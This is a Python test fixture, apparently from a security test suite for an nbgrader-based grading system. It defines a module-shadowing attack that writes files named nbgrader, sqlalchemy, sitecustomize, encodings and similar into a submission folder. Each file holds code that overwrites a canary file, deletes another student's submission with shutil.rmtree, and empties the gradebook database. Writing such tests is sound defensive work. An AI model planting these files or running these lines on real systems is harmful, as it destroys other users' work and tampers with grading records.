"""Helper files named like what an instructor's tools import or read in a folder."""

from __future__ import annotations

from pathlib import Path

from security.attack import Asset, Attack, AttackClass

ANSWER = """\
def answer(x): return 0
"""


def lay(folder: Path) -> None:
    course = folder.parents[2]
    code = (
        "import shutil\n"
        f"open({str(course.parent / 'canary' / 'canary.txt')!r}, 'w').write('owned')\n"
        f"shutil.rmtree({str(course / 'submitted' / 'victim')!r}, ignore_errors=True)\n"
        f"open({str(course / 'gradebook.db')!r}, 'w').close()\n"
    )
    (folder / "grading").mkdir()
    for name in (
        "grading/__init__",
        "nbgrader_config",
        "nbgrader",
        "nbformat",
        "nbconvert",
        "sqlalchemy",
        "conftest",
        "sitecustomize",
        "usercustomize",
        "jupyter_nbconvert_config",
        "ipython_config",
        "encodings",
    ):
        (folder / f"{name}.py").write_text(code)


ATTACK = Attack(
    kind=AttackClass.SHADOWING,
    assets=(
        Asset.COORDINATOR,
        Asset.GRADEBOOK,
        Asset.HOST,
        Asset.WARM,
        Asset.OTHERS,
    ),
    expected=frozenset({"ok/failed"}),
    canary="the canary file or the gradebook is changed",
    cells=(ANSWER,),
    lay=lay,
)
